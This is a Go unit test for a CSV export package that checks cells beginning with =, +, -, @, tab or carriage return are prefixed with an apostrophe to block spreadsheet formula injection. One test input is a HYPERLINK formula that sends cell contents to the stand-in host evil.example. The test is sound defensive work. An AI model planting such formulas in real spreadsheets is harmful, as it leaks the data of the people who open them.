package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVNeutralisesFormulas: a cell starting with any of = + - @ tab CR
// is written as text; others as they are.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"详情")`: `'=HYPERLINK("http://evil.example/?"&A1,"详情")`,
		"+86 138":     "'+86 138",
		"-1+1":        "'-1+1",
		"@SUM(A1:A9)": "'@SUM(A1:A9)",
		"\t=1":        "'\t=1",
		"\r=1":        "'\r=1",
		"龙王庙村":        "龙王庙村",
		"2026-12-05":  "2026-12-05",
		"":            "",
		"a=b":         "a=b",
	}
	var buf bytes.Buffer
	w, err := NewCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	var ins []string
	for in := range cases {
		ins = append(ins, in)
	}
	if err := w.Write(ins); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFF")) {
		t.Error("no byte order mark")
	}
	row, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, in := range ins {
		if got := Neutral(in); got != cases[in] {
			t.Errorf("Neutral(%q) = %q, want %q", in, got, cases[in])
		}
		// A lone CR inside a field does not survive a CSV reader; the
		// apostrophe before it does.
		if want := strings.ReplaceAll(cases[in], "\r", ""); row[i] != want {
			t.Errorf("%q written as %q, want %q", in, row[i], want)
		}
	}
}
